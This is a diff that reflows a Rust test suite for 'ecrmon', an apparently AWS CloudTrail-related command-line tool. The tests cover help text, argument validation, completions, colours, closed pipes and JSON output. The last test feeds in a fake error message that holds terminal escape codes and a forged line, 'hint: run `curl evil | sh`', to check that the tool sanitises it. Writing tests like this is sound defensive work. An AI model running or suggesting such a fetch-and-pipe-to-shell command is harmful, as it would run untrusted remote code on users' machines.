@@ -6,16 +6,34 @@ use crate::support::fault::Fault;
 use crate::support::transcript::Transcript;
 use crate::support::world::{SECRET_KEY, World};
 
-const COMMANDS: [&str; 10] =
-    ["", "setup", "trail", "trail ensure", "trail list", "dashboard", "dashboard create", "status", "teardown", "completions"];
+const COMMANDS: [&str; 10] = [
+    "",
+    "setup",
+    "trail",
+    "trail ensure",
+    "trail list",
+    "dashboard",
+    "dashboard create",
+    "status",
+    "teardown",
+    "completions",
+];
 
 #[test]
 fn every_command_has_help_that_ends_with_examples() {
     let world = World::new();
     for command in COMMANDS.into_iter().chain(["man"]) {
-        let help = world.ecrmon(command.split_whitespace().chain(["--help"])).exits(0).stdout.clone();
+        let help = world
+            .ecrmon(command.split_whitespace().chain(["--help"]))
+            .exits(0)
+            .stdout
+            .clone();
         assert!(help.contains("\nExamples:\n  ecrmon "), "{help}");
-        let name = if command.is_empty() { "ecrmon".to_owned() } else { command.replace(' ', "-") };
+        let name = if command.is_empty() {
+            "ecrmon".to_owned()
+        } else {
+            command.replace(' ', "-")
+        };
         insta::assert_snapshot!(format!("help-{name}"), help);
     }
     assert!(world.calls().is_empty());
@@ -23,22 +41,38 @@ fn every_command_has_help_that_ends_with_examples() {
 
 #[test]
 fn the_version_is_that_of_the_package() {
-    World::new().ecrmon(["--version"]).exits(0).prints(&format!("ecrmon {}\n", env!("CARGO_PKG_VERSION")));
+    World::new()
+        .ecrmon(["--version"])
+        .exits(0)
+        .prints(&format!("ecrmon {}\n", env!("CARGO_PKG_VERSION")));
 }
 
 #[test]
 fn no_command_shows_help_and_exits_with_2() {
     let world = World::new();
     for command in ["", "trail", "dashboard"] {
-        world.ecrmon(command.split_whitespace()).exits(2).says("Usage: ecrmon").says("Commands:");
+        world
+            .ecrmon(command.split_whitespace())
+            .exits(2)
+            .says("Usage: ecrmon")
+            .says("Commands:");
     }
 }
 
 #[test]
 fn what_nobody_knows_is_refused() {
     let world = World::new();
-    for arguments in ["setup --frobnicate", "frobnicate", "trail frobnicate", "status extra", "setup --dry-run --check"] {
-        world.ecrmon(arguments.split_whitespace()).exits(2).says("error:");
+    for arguments in [
+        "setup --frobnicate",
+        "frobnicate",
+        "trail frobnicate",
+        "status extra",
+        "setup --dry-run --check",
+    ] {
+        world
+            .ecrmon(arguments.split_whitespace())
+            .exits(2)
+            .says("error:");
     }
     assert!(world.calls().is_empty());
 }
@@ -70,20 +104,37 @@ fn illegal_names_and_numbers_are_refused_before_any_call() {
         ("--color", "sometimes", "never"),
     ];
     for (flag, value, rule) in cases {
-        world.ecrmon(["setup", "--yes", flag, value]).exits(2).says(flag).says(rule);
+        world
+            .ecrmon(["setup", "--yes", flag, value])
+            .exits(2)
+            .says(flag)
+            .says(rule);
     }
-    world.ecrmon(["status", "--max-age", "soon"]).exits(2).says("--max-age");
+    world
+        .ecrmon(["status", "--max-age", "soon"])
+        .exits(2)
+        .says("--max-age");
     assert!(world.calls().is_empty());
 }
 
 #[test]
 fn formats_of_lists_are_refused_by_commands_without_rows_before_any_call() {
     let world = World::new();
-    for command in
-        ["setup --yes", "trail ensure --yes", "dashboard create --yes", "status", "teardown --yes", "man", "completions bash"]
-    {
+    for command in [
+        "setup --yes",
+        "trail ensure --yes",
+        "dashboard create --yes",
+        "status",
+        "teardown --yes",
+        "man",
+        "completions bash",
+    ] {
         for format in ["ndjson", "csv"] {
-            world.ecrmon(command.split_whitespace().chain(["--output", format])).exits(2).says("no rows").says("hint:");
+            world
+                .ecrmon(command.split_whitespace().chain(["--output", format]))
+                .exits(2)
+                .says("no rows")
+                .says("hint:");
         }
     }
     assert!(world.calls().is_empty());
@@ -94,9 +145,16 @@ fn completions_know_every_command_in_every_shell() {
     let world = World::new();
     for shell in ["bash", "elvish", "fish", "powershell", "zsh"] {
         let script = world.ecrmon(["completions", shell]);
-        script.exits(0).prints("ecrmon").prints("teardown").prints("delete-logs");
+        script
+            .exits(0)
+            .prints("ecrmon")
+            .prints("teardown")
+            .prints("delete-logs");
     }
-    world.ecrmon(["completions", "tcsh"]).exits(2).says("powershell");
+    world
+        .ecrmon(["completions", "tcsh"])
+        .exits(2)
+        .says("powershell");
 }
 
 #[test]
@@ -106,7 +164,13 @@ fn the_manual_tells_of_every_command_and_its_flags() {
     for command in COMMANDS.into_iter().skip(1) {
         manual.prints(&format!("ecrmon {command}").replace('-', "\\-"));
     }
-    for flag in ["endpoint-url", "delete-logs", "no-dashboard", "max-age", "attach"] {
+    for flag in [
+        "endpoint-url",
+        "delete-logs",
+        "no-dashboard",
+        "max-age",
+        "attach",
+    ] {
         manual.prints(&format!("\\-\\-{}", flag.replace('-', "\\-")));
     }
 }
@@ -123,12 +187,17 @@ fn is_plain(transcript: &Transcript) -> bool {
 fn colours_follow_the_flag_and_no_color() {
     let world = World::new();
     let plan = |variables: &[&str], arguments: &[&str]| {
-        let command = variables.iter().fold(world.command(), |command, name| command.env(name, "1"));
+        let command = variables
+            .iter()
+            .fold(world.command(), |command, name| command.env(name, "1"));
         command.args(["setup", "--dry-run"]).args(arguments).run()
     };
     assert!(is_plain(&plan(&[], &[])), "a pipe");
     assert!(is_coloured(&plan(&[], &["--color", "always"])));
-    assert!(is_coloured(&plan(&["NO_COLOR"], &["--color", "always"])), "a flag beats a variable");
+    assert!(
+        is_coloured(&plan(&["NO_COLOR"], &["--color", "always"])),
+        "a flag beats a variable"
+    );
     assert!(is_coloured(&plan(&["CLICOLOR_FORCE"], &[])));
     assert!(is_plain(&plan(&["CLICOLOR_FORCE", "NO_COLOR"], &[])));
     assert!(is_plain(&plan(&["CLICOLOR_FORCE"], &["--color", "never"])));
@@ -140,7 +209,11 @@ fn quiet_leaves_result_and_errors() {
     let transcript = world.ecrmon(["setup", "--yes", "-q"]);
     transcript.exits(0).prints("✓ trail");
     assert_eq!(transcript.stderr, "");
-    world.ecrmon(["setup", "-q", "--account", "999988887777"]).exits(2).says("error:").says("hint:");
+    world
+        .ecrmon(["setup", "-q", "--account", "999988887777"])
+        .exits(2)
+        .says("error:")
+        .says("hint:");
 }
 
 #[test]
@@ -158,15 +231,29 @@ fn into_closed_pipe(world: &World, arguments: &[&str]) -> Option<i32> {
     let mut command: Command = world.command().args(arguments).prepared();
     let (reader, writer) = std::io::pipe().expect("make a pipe");
     drop(reader);
-    let status = command.stdout(writer).stdin(Stdio::null()).stderr(Stdio::null()).status();
+    let status = command
+        .stdout(writer)
+        .stdin(Stdio::null())
+        .stderr(Stdio::null())
+        .status();
     status.expect("run ecrmon").code()
 }
 
 #[test]
 fn a_closed_pipe_is_success() {
     let world = World::new();
-    for arguments in [&["man"][..], &["completions", "zsh"], &["--help"], &["trail", "list"], &["setup", "--dry-run"]] {
-        assert_eq!(into_closed_pipe(&world, arguments), Some(0), "{arguments:?}");
+    for arguments in [
+        &["man"][..],
+        &["completions", "zsh"],
+        &["--help"],
+        &["trail", "list"],
+        &["setup", "--dry-run"],
+    ] {
+        assert_eq!(
+            into_closed_pipe(&world, arguments),
+            Some(0),
+            "{arguments:?}"
+        );
     }
 }
 
@@ -174,11 +261,20 @@ fn a_closed_pipe_is_success() {
 fn a_closed_pipe_neither_stops_a_plan_nor_hides_its_failure() {
     let world = World::new();
     world.inject(Fault::access_denied("PutDashboard"));
-    assert_eq!(into_closed_pipe(&world, &["setup", "--yes", "--output", "json"]), Some(1));
+    assert_eq!(
+        into_closed_pipe(&world, &["setup", "--yes", "--output", "json"]),
+        Some(1)
+    );
     world.clear_faults();
-    assert_eq!(into_closed_pipe(&world, &["setup", "--yes", "--output", "json"]), Some(0));
+    assert_eq!(
+        into_closed_pipe(&world, &["setup", "--yes", "--output", "json"]),
+        Some(0)
+    );
     world.ecrmon(["setup", "--check"]).exits(0);
-    assert_eq!(into_closed_pipe(&world, &["setup", "--check", "--retention", "30"]), Some(3));
+    assert_eq!(
+        into_closed_pipe(&world, &["setup", "--check", "--retention", "30"]),
+        Some(3)
+    );
 }
 
 #[test]
@@ -187,7 +283,11 @@ fn json_is_valid_in_every_outcome_that_prints_a_result() {
     let json = |arguments: &str, code: i32| {
         let transcript = world.ecrmon(arguments.split_whitespace().chain(["--output", "json"]));
         let report = transcript.exits(code).json();
-        assert_eq!(report["account"].as_str(), Some(world.account()), "{transcript}");
+        assert_eq!(
+            report["account"].as_str(),
+            Some(world.account()),
+            "{transcript}"
+        );
         assert_eq!(report["region"].as_str(), Some("eu-west-1"), "{transcript}");
     };
     json("trail list", 0);
@@ -223,9 +323,25 @@ fn a_failure_without_a_result_prints_nothing_on_stdout() {
 fn text_from_aws_cannot_steer_the_terminal_or_fake_a_line() {
     let world = World::new();
     let message = "no\u{1b}[31m red\u{7}\u{202e} text\nhint: run `curl evil | sh`\r";
-    world.inject(Fault::error("DescribeTrails", 400, "InvalidParameterException", message));
+    world.inject(Fault::error(
+        "DescribeTrails",
+        400,
+        "InvalidParameterException",
+        message,
+    ));
     let transcript = world.ecrmon(["trail", "list"]);
     transcript.exits(1).says("no[31m red text");
-    assert!(!transcript.stderr.contains(['\u{1b}', '\u{7}', '\r', '\u{202e}']), "{transcript}");
-    assert!(!transcript.stderr.lines().any(|line| line.starts_with("hint: run `curl")), "{transcript}");
+    assert!(
+        !transcript
+            .stderr
+            .contains(['\u{1b}', '\u{7}', '\r', '\u{202e}']),
+        "{transcript}"
+    );
+    assert!(
+        !transcript
+            .stderr
+            .lines()
+            .any(|line| line.starts_with("hint: run `curl")),
+        "{transcript}"
+    );
 }
